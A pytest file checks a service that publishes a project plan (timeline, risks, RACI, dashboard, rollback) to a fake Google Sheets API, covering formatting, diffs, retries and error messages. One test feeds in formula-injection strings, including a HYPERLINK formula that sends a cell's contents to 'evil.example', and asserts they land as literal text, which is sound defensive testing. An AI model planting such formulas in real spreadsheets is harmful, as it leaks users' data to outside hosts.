"""Publishing a plan through the adapter to a stateful fake of the Sheets API."""

from __future__ import annotations

import copy
import datetime as dt

import pytest
from fakes.sheets import (
    SIX,
    SPREADSHEET_ID,
    sheets_config,
    token_client_factory,
)
from fakes.sheets_plan import make_plan, make_status

from syncsvc.config import load_config
from syncsvc.errors import RemoteError
from syncsvc.sheets import publish_plan

NOW = dt.datetime(2027, 1, 4, 9, 30)


def publish(plan, sheets_cfg, *, dry_run=False, sleeps=None, **kw):
    return publish_plan(
        plan, sheets_cfg, dry_run=dry_run, client_factory=token_client_factory(sleeps), now=NOW, **kw
    )


def test_first_publish_creates_six_worksheets_in_two_calls(fake_sheets, sheets_cfg):
    report = publish(make_plan(12), sheets_cfg)
    assert fake_sheets.titles(SPREADSHEET_ID) == ["Sheet1", *SIX]
    assert [(k, u.split("?")[0].rsplit("/", 1)[1]) for k, u in fake_sheets.calls] == [
        ("get", SPREADSHEET_ID),
        ("batchUpdate", f"{SPREADSHEET_ID}:batchUpdate"),
    ]
    assert "fields=sheets" in fake_sheets.calls[0][1]  # a field-masked read, never the whole file
    assert report.calls == 2 and report.batches == 1
    assert report.created == SIX and report.changed == [] and report.rows_changed > 12


def test_worksheet_contents(fake_sheets, sheets_cfg):
    plan = make_plan(12)
    publish(plan, sheets_cfg)
    risks = fake_sheets.values(SPREADSHEET_ID, "Risks")
    assert risks[0][:5] == ["ID", "Risk", "Likelihood", "Impact", "Score"]
    assert risks[1][:5] == ["R1", plan.risks[0].title, "high", "high", 9.0]
    # the 3x3 heat grid under the register, as in the Markdown: likelihood rows high → low,
    # impact columns low → high
    grid_at = risks.index(["Likelihood \\ Impact", "Low", "Medium", "High"])
    assert [r[0] for r in risks[grid_at + 1 : grid_at + 4]] == ["High", "Medium", "Low"]
    levels = ("high", "medium", "low")
    for r in plan.risks:
        row = risks[grid_at + 1 + levels.index(r.likelihood)]
        assert r.id in str(row[3 - levels.index(r.impact)]).split(", "), r.id
    raci = fake_sheets.values(SPREADSHEET_ID, "RACI")
    assert raci[0][:3] == ["Activity", "Task", plan.raci[0].responsible[0]]
    assert "A" in raci[1] and raci[1][0] == plan.tasks[0].id
    tl = fake_sheets.values(SPREADSHEET_ID, "Timeline")
    t0 = plan.tasks[0]
    assert tl[1][:3] == [t0.id, t0.name, t0.phase]
    serial = (t0.early_start - dt.date(1899, 12, 30)).days
    assert serial in tl[1]  # dates are typed numbers, not text
    dash = {r[0]: r[1] for r in fake_sheets.values(SPREADSHEET_ID, "Dashboard") if len(r) > 1}
    assert dash["Feature"] == plan.feature_name and dash["Tasks total"] == 12
    assert dash["Fits timeline"] is plan.fits_timeline
    assert dash["Critical path"] == " → ".join(plan.critical_path)
    assert "Forecast launch" not in dash  # no status yet: left empty
    assert fake_sheets.values(SPREADSHEET_ID, "Rollback")[1][:2] == [1, "On-call"]
    assert fake_sheets.values(SPREADSHEET_ID, "Communication")[1][0] == "leadership"


def test_formats_frozen_header_filter_widths_and_gantt_colours(fake_sheets, sheets_cfg):
    plan = make_plan(12)
    publish(plan, sheets_cfg)
    tl = fake_sheets.sheet(SPREADSHEET_ID, "Timeline")
    assert tl.props["gridProperties"]["frozenRowCount"] == 1
    assert tl.cells[(0, 0)]["userEnteredFormat"]["textFormat"]["bold"] is True
    assert tl.basic_filter["range"] == {
        "sheetId": tl.props["sheetId"],
        "startRowIndex": 0,
        "endRowIndex": 13,
        "startColumnIndex": 0,
        "endColumnIndex": 15,
    }
    assert tl.widths[1] == 240  # from mappings/sheets.toml
    crit = next(i for i, t in enumerate(plan.tasks) if t.critical and t.kind == "task")
    other = next(i for i, t in enumerate(plan.tasks) if not t.critical)

    def bar(i):
        return {
            c: v["userEnteredFormat"]["backgroundColor"]
            for (r, c), v in tl.cells.items()
            if r == i + 1 and c >= 15 and "backgroundColor" in v.get("userEnteredFormat", {})
        }

    crit_colours = set(map(str, bar(crit).values()))
    other_colours = set(map(str, bar(other).values()))
    assert len(crit_colours) == 1 and len(other_colours) == 1 and crit_colours != other_colours
    # the bar covers exactly the weeks the task runs in
    t = plan.tasks[other]
    monday = plan.start_date - dt.timedelta(days=plan.start_date.weekday())
    weeks = {15 + (d - monday).days // 7 for d in (t.early_start, t.early_finish)}
    assert set(bar(other)) == set(range(min(weeks), max(weeks) + 1))
    risks = fake_sheets.sheet(SPREADSHEET_ID, "Risks")
    assert risks.cells[(1, 4)]["userEnteredFormat"]["backgroundColor"] == {
        "red": 1.0,
        "green": 0.7804,
        "blue": 0.8078,
    }  # score 9 → risk_high #FFC7CE


def test_unchanged_plan_costs_one_read_and_no_write(fake_sheets, sheets_cfg):
    plan = make_plan(12)
    publish(plan, sheets_cfg)
    before = len(fake_sheets.calls)
    report = publish(plan, sheets_cfg)
    assert [k for k, _ in fake_sheets.calls[before:]] == ["get"]
    assert report.calls == 1 and report.batches == 0 and report.rows_changed == 0
    assert report.unchanged == SIX


def test_changed_task_rewrites_only_its_rows_and_the_last_synced_time(fake_sheets, sheets_cfg):
    plan = make_plan(12)
    publish(plan, sheets_cfg)
    renamed = plan.model_copy(
        update={"tasks": [plan.tasks[0].model_copy(update={"name": "Renamed"}), *plan.tasks[1:]]}
    )
    later = NOW + dt.timedelta(hours=1)
    report = publish_plan(
        renamed, sheets_cfg, dry_run=False, client_factory=token_client_factory(), now=later
    )
    assert report.calls == 2
    assert {s.title: s.rows_changed for s in report.sheets if s.rows_changed} == {
        "Timeline": 1,
        "RACI": 1,
        "Dashboard": 1,
    }
    assert fake_sheets.values(SPREADSHEET_ID, "Timeline")[1][1] == "Renamed"
    body = fake_sheets.bodies[-1]
    kinds = [next(iter(r)) for r in body["requests"]]
    assert kinds == ["updateCells"] * 3  # no sheet, width or filter churn
    dash = fake_sheets.values(SPREADSHEET_ID, "Dashboard")
    assert dash[-1][1] == pytest.approx((later - dt.datetime(1899, 12, 30)).total_seconds() / 86400)


def test_removed_rows_are_cleared_in_the_same_batch(fake_sheets, sheets_cfg):
    publish(make_plan(30), sheets_cfg)
    report = publish(make_plan(10), sheets_cfg)
    assert report.calls == 2
    tl = fake_sheets.values(SPREADSHEET_ID, "Timeline")
    assert len(tl) == 11 and fake_sheets.sheet(SPREADSHEET_ID, "Timeline").rows == 11
    assert report.sheets[3].rows_changed >= 20
    # and the result equals a fresh publish of the smaller plan
    again = publish(make_plan(10), sheets_cfg)
    assert again.batches == 0


def test_human_edits_are_put_back(fake_sheets, sheets_cfg):
    plan = make_plan(8)
    publish(plan, sheets_cfg)
    s = fake_sheets.sheet(SPREADSHEET_ID, "Risks")
    s.cells[(1, 1)] = {"userEnteredValue": {"stringValue": "edited by hand"}}
    s.cells[(10, 5)] = {"userEnteredValue": {"formulaValue": "=1+1"}}
    rows = s.rows
    s.props["gridProperties"]["rowCount"] = 60  # a person added rows and typed below
    s.cells[(40, 3)] = {"userEnteredValue": {"numberValue": 7}}
    s.widths[0] = 300
    report = publish(plan, sheets_cfg)
    assert report.changed == ["Risks"] and report.sheets[1].rows_changed == 3
    risks = fake_sheets.sheet(SPREADSHEET_ID, "Risks")
    assert fake_sheets.values(SPREADSHEET_ID, "Risks")[1][1] == plan.risks[0].title
    assert (40, 3) not in risks.cells and (10, 5) not in risks.cells
    assert risks.rows == rows and risks.widths[0] == 50
    assert publish(plan, sheets_cfg).batches == 0


@pytest.mark.parametrize(
    "evil",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        '=IMPORTXML("https://evil.example","//a")',
        "+1+2",
        "-3+4",
        "@SUM(A1)",
        "'quoted",
        "=1+2",
    ],
)
def test_injection_attempts_land_as_literal_text(fake_sheets, sheets_cfg, evil):
    plan = make_plan(8, task_name=evil, risk_title=evil, owner=evil)
    publish(plan, sheets_cfg)
    tl = fake_sheets.sheet(SPREADSHEET_ID, "Timeline")
    hits = [
        (t, v)
        for t in SIX
        for (r, c), v in fake_sheets.sheet(SPREADSHEET_ID, t).cells.items()
        if evil in str(v.get("userEnteredValue"))
    ]
    assert len(hits) >= 4 and tl
    for title, v in hits:
        assert set(v["userEnteredValue"]) == {"stringValue"}, (title, v)
    assert fake_sheets.cell(SPREADSHEET_ID, "Timeline", 1, 1) == ("string", evil)
    assert not any(
        str(x).startswith("FORMULA:")
        for t in SIX
        for row in fake_sheets.values(SPREADSHEET_ID, t)
        for x in row
    )


def test_dry_run_reads_and_writes_nothing(fake_sheets, sheets_cfg):
    report = publish(make_plan(12), sheets_cfg, dry_run=True)
    assert [k for k, _ in fake_sheets.calls] == ["get"]
    assert fake_sheets.titles(SPREADSHEET_ID) == ["Sheet1"] and fake_sheets.bodies == []
    assert report.dry_run and report.created == SIX and report.rows_changed > 12
    assert report.batches == 1  # what would be sent


def test_dry_run_counts_rows_that_would_change(fake_sheets, sheets_cfg):
    plan = make_plan(12)
    publish(plan, sheets_cfg)
    before = copy.deepcopy(fake_sheets.spreadsheets)
    fewer = plan.model_copy(update={"risks": plan.risks[:-2]})  # the two lowest scores
    report = publish(fewer, sheets_cfg, dry_run=True)
    # register rows 8-9 go, so the blank row and the heat grid move up two rows
    assert report.changed == ["Risks"]
    risks = next(s for s in report.sheets if s.title == "Risks")
    assert risks.rows_changed == 8  # rows 8..13 now hold what was two rows lower; 14-15 go
    assert fake_sheets.spreadsheets == before and len(fake_sheets.bodies) == 1
    assert [k for k, _ in fake_sheets.calls[-1:]] == ["get"]


def test_429_with_retry_after_is_waited_out_then_written(fake_sheets, sheets_cfg):
    sleeps: list[float] = []
    fake_sheets.fail_next("batchUpdate", 429, times=2, headers={"Retry-After": "7"})
    report = publish(make_plan(8), sheets_cfg, sleeps=sleeps)
    assert [k for k, _ in fake_sheets.calls] == ["get", "batchUpdate", "batchUpdate", "batchUpdate"]
    assert sleeps == [7.0, 7.0]  # Retry-After beats the jittered 0.5 s / 1 s
    assert report.calls == 4 and fake_sheets.titles(SPREADSHEET_ID)[1:] == SIX


def test_503_on_read_is_retried_with_jittered_backoff(fake_sheets, sheets_cfg):
    sleeps: list[float] = []
    fake_sheets.fail_next("get", 503, times=3)
    publish(make_plan(8), sheets_cfg, sleeps=sleeps)
    assert sleeps == [0.5, 1.0, 2.0]  # rand()=0.5 × 1, 2, 4 s
    assert fake_sheets.api_calls("get") == 4


def test_persistent_429_gives_up_after_bounded_retries(fake_sheets, tmp_path):
    sheets_cfg = load_config(sheets_config(tmp_path, max_retries=3))
    sleeps: list[float] = []
    fake_sheets.fail_next("batchUpdate", 429, times=50)
    with pytest.raises(RemoteError) as e:
        publish(make_plan(8), sheets_cfg, sleeps=sleeps)
    assert fake_sheets.api_calls("batchUpdate") == 4 and len(sleeps) == 3
    assert "429 after 4 attempt(s)" in e.value.message
    assert "nothing was written" in e.value.message
    assert fake_sheets.titles(SPREADSHEET_ID) == ["Sheet1"]


def test_403_says_to_share_with_the_account(fake_sheets, sheets_cfg):
    fake_sheets.spreadsheets[SPREADSHEET_ID].shared_with = {"someone-else"}
    with pytest.raises(RemoteError) as e:
        publish(make_plan(8), sheets_cfg)
    assert SPREADSHEET_ID in e.value.message and "403" in e.value.message
    assert "share the spreadsheet with" in str(e.value)
    assert fake_sheets.api_calls() == 1  # 403 is not retried


def test_404_names_the_spreadsheet(fake_sheets, sheets_cfg):
    del fake_sheets.spreadsheets[SPREADSHEET_ID]
    with pytest.raises(RemoteError) as e:
        publish(make_plan(8), sheets_cfg)
    assert f"spreadsheet {SPREADSHEET_ID} not found (404)" in e.value.message
    assert fake_sheets.api_calls() == 1


def test_prefix_lets_two_plans_share_a_spreadsheet(fake_sheets, tmp_path):
    sheets_cfg = load_config(sheets_config(tmp_path, prefix=True))
    publish(make_plan(8, plan_id="alpha"), sheets_cfg)
    publish(make_plan(14, plan_id="beta"), sheets_cfg)
    titles = fake_sheets.titles(SPREADSHEET_ID)
    assert [t for t in titles if t.startswith("alpha ")] == [f"alpha {t}" for t in SIX]
    assert [t for t in titles if t.startswith("beta ")] == [f"beta {t}" for t in SIX]
    assert len(fake_sheets.values(SPREADSHEET_ID, "alpha Timeline")) == 9
    assert len(fake_sheets.values(SPREADSHEET_ID, "beta Timeline")) == 15
    assert publish(make_plan(8, plan_id="alpha"), sheets_cfg).batches == 0


def test_status_fills_forecast_and_jira_columns(fake_sheets, sheets_cfg):
    plan = make_plan(8)
    status = make_status(plan, [("2027-01-11", "slipping", 3, "2027-02-10")], tasks=1)
    publish(plan, sheets_cfg, status=status)
    dash = {r[0]: r[1] for r in fake_sheets.values(SPREADSHEET_ID, "Dashboard") if len(r) > 1}
    assert dash["State"] == "slipping" and dash["Slip (working days)"] == 3
    tl = fake_sheets.values(SPREADSHEET_ID, "Timeline")
    assert tl[1][11:13] == ["NOTIF-1", "Done"]


def test_a_write_that_timed_out_is_not_resent(fake_sheets, sheets_cfg):
    fake_sheets.fail_next("batchUpdate", 0)  # no answer in time
    with pytest.raises(RemoteError) as e:
        publish(make_plan(8), sheets_cfg)
    assert fake_sheets.api_calls("batchUpdate") == 1
    assert "ReadTimeout" in e.value.message and "may or may not have been applied" in str(e.value)


def test_a_read_that_timed_out_is_retried(fake_sheets, sheets_cfg):
    sleeps: list[float] = []
    fake_sheets.fail_next("get", 0)
    report = publish(make_plan(8), sheets_cfg, sleeps=sleeps)
    assert report.calls == 3 and sleeps == [0.5]


def test_only_a_payload_past_the_limit_is_split(fake_sheets, sheets_cfg, monkeypatch):
    plan = make_plan(40)
    whole = publish(plan, sheets_cfg, dry_run=True)
    monkeypatch.setattr("syncsvc.sheets.diff.MAX_BATCH_BYTES", whole.payload_bytes // 3)
    report = publish(plan, sheets_cfg)
    assert report.batches >= 3 and fake_sheets.api_calls("batchUpdate") == report.batches
    monkeypatch.undo()
    assert publish(plan, sheets_cfg).batches == 0  # the split write left exactly the plan


def test_a_refused_batch_changes_nothing(fake_sheets, sheets_cfg):
    publish(make_plan(8), sheets_cfg)
    before = copy.deepcopy(fake_sheets.spreadsheets)
    fake_sheets.fail_next("batchUpdate", 400)
    with pytest.raises(RemoteError) as e:
        publish(make_plan(9), sheets_cfg)
    assert "(400)" in e.value.message and "nothing was written" in e.value.message
    assert fake_sheets.spreadsheets == before


def test_sentences_across_a_table_are_merged_and_kept_in_step(fake_sheets, sheets_cfg):
    plan = make_plan(8)
    rb = plan.rollback
    assert rb is not None
    longer = plan.model_copy(
        update={
            "rollback": rb.model_copy(
                update={
                    "verification": [
                        *rb.verification,
                        "Support reports no new tickets for an hour",
                        "The status page shows all clear",
                    ]
                }
            )
        }
    )
    publish(longer, sheets_cfg)
    sheet = fake_sheets.sheet(SPREADSHEET_ID, "Rollback")
    rows = fake_sheets.values(SPREADSHEET_ID, "Rollback")
    at = [i for i, r in enumerate(rows) if r and r[0] in longer.rollback.verification]
    assert len(at) == 3
    assert sorted(sheet.merges) == [(i, i + 1, 0, 6) for i in at]  # across steps and triggers
    assert publish(longer, sheets_cfg).batches == 0  # read back, nothing to redo
    # one check fewer: its merge goes (the rows below move up), the rest stay merged
    shorter = longer.model_copy(
        update={
            "rollback": longer.rollback.model_copy(update={"verification": longer.rollback.verification[:2]})
        }
    )
    report = publish(shorter, sheets_cfg)
    kinds = [next(iter(r)) for r in fake_sheets.bodies[-1]["requests"]]
    assert report.changed == ["Rollback"] and "mergeCells" not in kinds
    assert sorted(fake_sheets.sheet(SPREADSHEET_ID, "Rollback").merges) == [(i, i + 1, 0, 6) for i in at[:2]]
    assert publish(shorter, sheets_cfg).batches == 0
    # and back: the third check is merged again
    assert publish(longer, sheets_cfg).changed == ["Rollback"]
    assert sorted(fake_sheets.sheet(SPREADSHEET_ID, "Rollback").merges) == [(i, i + 1, 0, 6) for i in at]
